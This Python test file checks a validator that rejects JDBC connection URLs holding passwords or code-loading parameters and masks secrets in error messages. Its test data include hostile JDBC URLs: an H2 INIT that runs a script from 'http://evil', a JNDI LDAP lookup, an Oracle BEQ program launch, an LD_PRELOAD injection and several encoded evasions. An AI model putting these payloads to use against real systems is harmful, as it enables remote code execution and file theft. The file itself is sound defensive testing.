"""Tests of JDBC URLs and properties: URLs with passwords or code are refused, and messages contain no secret."""

from __future__ import annotations

import pytest

from airflow_provider_ckpt.connectors.connection import Connection
from airflow_provider_ckpt.connectors.jdbc.url_check import check, without_secrets
from airflow_provider_ckpt.core.errors import ConfigError


def connection(url: str, **properties: str) -> Connection:
    """A JDBC connection."""
    return Connection("shop", "jdbc", url, login="me", password="hunter2", extra={"properties": properties})


@pytest.mark.parametrize(
    ("url", "named"),
    [
        ("jdbc:postgresql://h/d?sslpassword=x", "sslpassword"),
        ("jdbc:sqlserver://h;databaseName=d;trustStorePassword=x", "trustStorePassword"),
        ("jdbc:sqlserver://h;accessToken=x", "accessToken"),
        ("jdbc:snowflake://h/?private_key_pwd=x", "private_key_pwd"),
        ("jdbc:databricks://h;PWD=x", "PWD"),
        ("jdbc:bigquery://h;OAuthAccessToken=x", "OAuthAccessToken"),
        ("jdbc:trino://h/d?apiKey=x", "apiKey"),
        ("jdbc:mysql://address=(host=h)(password=x)/d", "password"),
        ("jdbc:db2://h/d:user=a;password=x;", "password"),
        ("jdbc:teradata://h/USER=a,PASSWORD=x", "PASSWORD"),
    ],
)
def test_a_secret_in_a_url_is_refused_by_its_name(url: str, named: str) -> None:
    with pytest.raises(ConfigError, match=rf"includes a password \({named}\)") as refused:
        check(connection(url))
    assert "=x" not in str(refused.value)


@pytest.mark.parametrize(
    ("url", "properties", "named"),
    [
        ("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", {}, "INIT"),
        ("jdbc:h2:mem:x;TRACE_LEVEL_FILE=3", {}, "TRACE_LEVEL_FILE"),
        ("jdbc:postgresql://h/d?socketFactory=x.Y&socketFactoryArg=z", {}, "socketFactory"),
        ("jdbc:postgresql://h/d", {"socketFactory": "x.Y"}, "socketFactory"),
        ("jdbc:postgresql://h/d", {"loggerFile": "/tmp/x"}, "loggerFile"),
        ("jdbc:postgresql://h/d", {"sslFactory": "x.Y"}, "sslFactory"),
        ("jdbc:mysql://h/d?autoDeserialize=true", {}, "autoDeserialize"),
        ("jdbc:mysql://h/d", {"allowLoadLocalInfile": "true"}, "allowLoadLocalInfile"),
        ("jdbc:mysql:loadbalance://h/d", {"queryInterceptors": "x.Y"}, "queryInterceptors"),
        ("jdbc:mariadb://h/d", {"credentialType": "x"}, "credentialType"),
        ("jdbc:sqlserver://h;trustManagerClass=x.Y", {}, "trustManagerClass"),
        ("jdbc:db2://h/d", {"pluginClassName": "x.Y"}, "pluginClassName"),
        ("jdbc:unknown://h/d;connectionFactory=x.Y", {}, "connectionFactory"),
        ("jdbc:derby:d;jndiName=ldap://evil", {}, "jndiName"),
    ],
)
def test_a_parameter_that_may_name_code_is_refused_by_its_name(
    url: str, properties: dict[str, str], named: str
) -> None:
    with pytest.raises(ConfigError, match=f"{named} is not accepted for a driver of"):
        check(connection(url, **properties))


@pytest.mark.parametrize(
    ("url", "properties"),
    [
        ("jdbc:postgresql://h:5432/d?sslmode=verify-full&ApplicationName=ckpt", {"sslpassword": "x", "ssl": "true"}),
        ("jdbc:h2:tcp://h/d;MODE=PostgreSQL;TIME ZONE=UTC;DB_CLOSE_DELAY=-1", {}),
        ("jdbc:mysql://h/d?useSSL=true&serverTimezone=UTC", {"trustCertificateKeyStorePassword": "x"}),
        ("jdbc:sqlserver://h:1433;databaseName=d;encrypt=true", {"accessToken": "x"}),
        ("jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(HOST=h)(PORT=1))(CONNECT_DATA=(SERVICE_NAME=s)))", {}),
        ("jdbc:clickhouse://h/d?compress=1", {"private_key_pwd": "x"}),
    ],
)
def test_what_is_harmless_passes(url: str, properties: dict[str, str]) -> None:
    check(connection(url, **properties))


def test_no_message_shows_what_is_not_known_to_be_harmless() -> None:
    told = connection("jdbc:other://h/d;keep=s3cret-1;user=visible", sslpassword="s3cret-2", odd="s3cret-3", ssl="true")

    text = without_secrets(
        told, "no s3cret-1, s3cret-2, s3cret-3 or hunter2: sslpassword=other, user=visible, ssl true"
    )

    assert text == "no ***, ***, *** or ***: sslpassword=***, user=visible, ssl true"


RAC = (
    "jdbc:oracle:thin:@(DESCRIPTION=(ENABLE=BROKEN)(CONNECT_TIMEOUT=90)(RETRY_COUNT=20)(FAILOVER=ON)(LOAD_BALANCE=ON)"
    "(ADDRESS_LIST=(ADDRESS=(PROTOCOL=TCP)(HOST=scan.acme.example)(PORT=1521)))(CONNECT_DATA=(SERVICE_NAME=shop)"
    "(SERVER=DEDICATED)(FAILOVER_MODE=(TYPE=SELECT)(METHOD=BASIC)(RETRIES=180)(DELAY=5))(CID=(PROGRAM=ckpt)(USER=a))))"
)
TCPS = (
    "jdbc:oracle:thin:@(description= (retry_count=20)(retry_delay=3)(address=(protocol=tcps)(port=1522)"
    "(host=adb.eu.oraclecloud.com))(connect_data=(service_name=x_high.adb.oraclecloud.com))(security="
    "(ssl_server_dn_match=yes)(wallet_location=/w)(MY_WALLET_DIRECTORY=/w)"
    '(ssl_server_cert_dn="CN=adb.oraclecloud.com,OU=Oracle BMCS,O=Oracle Corporation,L=Redwood City,C=US")))'
)


@pytest.mark.parametrize(
    "url",
    [
        RAC,
        TCPS,
        "jdbc:oracle:thin:@tcps://db.example:2484/shop?wallet_location=/w&ssl_server_cert_dn=CN=db,O=acme&retry_count=3",
        "jdbc:oracle:thin:@shop_high?TNS_ADMIN=/opt/wallet",
        "jdbc:oracle:thin:@//db.example:1521/shop",
        "jdbc:oracle:thin:@db.example:1521:ORCL",
        "jdbc:mysql://h/d?useUnicode=true&characterEncoding=UTF-8&useJDBCCompliantTimezoneShift=true&serverTimezone=UTC",
        "jdbc:mysql://h/d?useLegacyDatetimeCode=false&jdbcCompliantTruncation=false&zeroDateTimeBehavior=ROUND",
        "jdbc:mysql://h/d?allowLoadLocalInfile=false&allowUrlInLocalInfile=false&autoDeserialize=FALSE&allowMultiQueries=0",
        "jdbc:mysql://h/d?sessionVariables=sql_mode='ANSI',time_zone='+00:00'&useSSL=true",
        "jdbc:mysql:replication://address=(type=source)(host=a)(port=1),address=(type=replica)(host=b)/d",
        "jdbc:mysql+srv://h/d?useAffectedRows=true",
        "jdbc:mariadb://h:3306/d?useSSL=true&trustServerCertificate=true&disableSslHostnameVerification=true",
        "jdbc:mariadb:sequential://a,b/d?sslMode=verify-full&allowLocalInfile=false&transactionReplay=true&pool=false",
        "jdbc:mariadb://h/d?useUnicode=true&characterEncoding=utf8&usePipelineAuth=false&useBatchMultiSend=false",
        "jdbc:sqlserver://h\\inst:1433;databaseName=d;encrypt=true;trustServerCertificate=false;disableStatementPooling=false",
        "jdbc:sqlserver://h;databaseName=d;failoverPartner=b;statementPoolingCacheSize=10;authentication=SqlPassword",
        "jdbc:h2:tcp://h/d;TRACE_LEVEL_FILE=0;TRACE_LEVEL_SYSTEM_OUT=0;AUTO_SERVER=FALSE;IFEXISTS=TRUE",
        "jdbc:h2:file:/data/shop;MODE=MySQL;DATABASE_TO_LOWER=TRUE;SCHEMA_SEARCH_PATH=a;NON_KEYWORDS=VALUE",
        "jdbc:postgresql://a:1,b:2/d?targetServerType=preferSecondary&loadBalanceHosts=true&currentSchema=a,b",
        "jdbc:postgresql://h/d?options=-c%20statement_timeout=60000&loggerLevel=OFF&sslmode=require",
    ],
)
def test_urls_as_people_have_them_pass(url: str) -> None:
    check(connection(url))


@pytest.mark.parametrize(
    "url",
    [
        "jdbc:mysql://h/d?allowLoadLocalInfile=true",
        "jdbc:mysql://h/d?allowLoadLocalInfile=true&allowLoadLocalInfile=false",
        "jdbc:mysql://h/d?allowLoadLocalInfile=false&allowLoadLocalInfile=true",
        "jdbc:mysql://h/d?allowLoadLocalInfile=%74rue",
        "jdbc:mysql://h/d?allowLoadLocalInfileInPath=false",
        "jdbc:mysql://h/d?autoDeserializ%65=true",
        "jdbc:mysql://h/d?%61utoDeserialize=true",
        "jdbc:mysql://h/d?autoDeserialize\t=true",
        "jdbc:mysql://(host=h,autoDeserialize=true)/d",
        "jdbc:mysql://address=(host=h)(autoDeserialize=true)/d",
        "jdbc:mysql://h/d?sessionVariables=a=1&queryInterceptors=x.Y",
        "jdbc:mysql://h/d?ha.loadBalanceStrategy=x.Y",
        "jdbc:mysql://h/d?loadBalanceExceptionChecker=x.Y",
        "jdbc:mysql+srv://h/d?clientInfoProvider=x.Y",
        "jdbc:mariadb://h/d?initSql=drop",
        "jdbc:mariadb://h/d?tlsSocketType=x",
        "jdbc:mariadb://h/d?trustServerCertificate=true&socketFactory=x.Y",
        "jdbc:mariadb://h/d?allowLocalInfile=1",
        "jdbc:postgresql://h/d?socketFactor%79=x.Y",
        "jdbc:postgresql://h/d?loggerLevel=TRACE",
        "jdbc:postgresql://h/d?options=a,b&sslhostnameverifier=x.Y",
        "jdbc:sqlserver://h;databaseName=d;disableStatementPooling=false;socketFactoryClass=x.Y",
        "jdbc:sqlserver://h;accessTokenCallbackClass=x.Y",
        "jdbc:h2:mem:x;TRACE_LEVEL_FILE=00",
        "jdbc:h2:mem:x;AUTO_SERVER=TRUE",
        "jdbc:h2:mem:x;INIT\\=RUNSCRIPT FROM 'http://evil/x.sql'",
        "jdbc:h2:mem:x;IN\\IT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "jdbc:h2:mem:x;DATABASE_EVENT_LISTENER='x.Y'",
        "jdbc:h2:mem:x;JAVA_OBJECT_SERIALIZER='x.Y'",
        "jdbc:oracle:oci:@(DESCRIPTION=(ADDRESS=(PROTOCOL=BEQ)(PROGRAM=/tmp/evil))(CONNECT_DATA=(SID=x)))",
        "jdbc:oracle:oci:@(DESCRIPTION=(ADDRESS=(PROTOCOL = beq )(PROGRAM=/tmp/evil)))",
        "jdbc:oracle:oci:@(DESCRIPTION=(ADDRESS=(PROGRAM=/tmp/evil)(ARGV0=x)( ARGS =y)))",
        "jdbc:oracle:oci:@(DESCRIPTION=(ADDRESS=(ENVS='LD_PRELOAD=/tmp/x.so')))",
        "jdbc:oracle:thin:@h:1/s?oracle.jdbc.provider.password=x",
        "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(HOST=h)))?oracle.jdbc.provider.traceEventListener=x",
        "jdbc:oracle:thin:@h:1/s?retry_count=1,2&oracle.jdbc.config.file=x",
    ],
)
def test_a_url_that_has_a_driver_load_code_is_refused_however_it_is_written(url: str) -> None:
    with pytest.raises(ConfigError, match=r"is not accepted for a driver of|includes a password"):
        check(connection(url))


def test_a_switch_among_the_properties_may_be_off_and_not_on() -> None:
    check(connection("jdbc:mysql://h/d", allowLoadLocalInfile="False"))
    with pytest.raises(ConfigError, match="allowLoadLocalInfile is not accepted"):
        check(connection("jdbc:mysql://h/d", allowLoadLocalInfile="yes"))
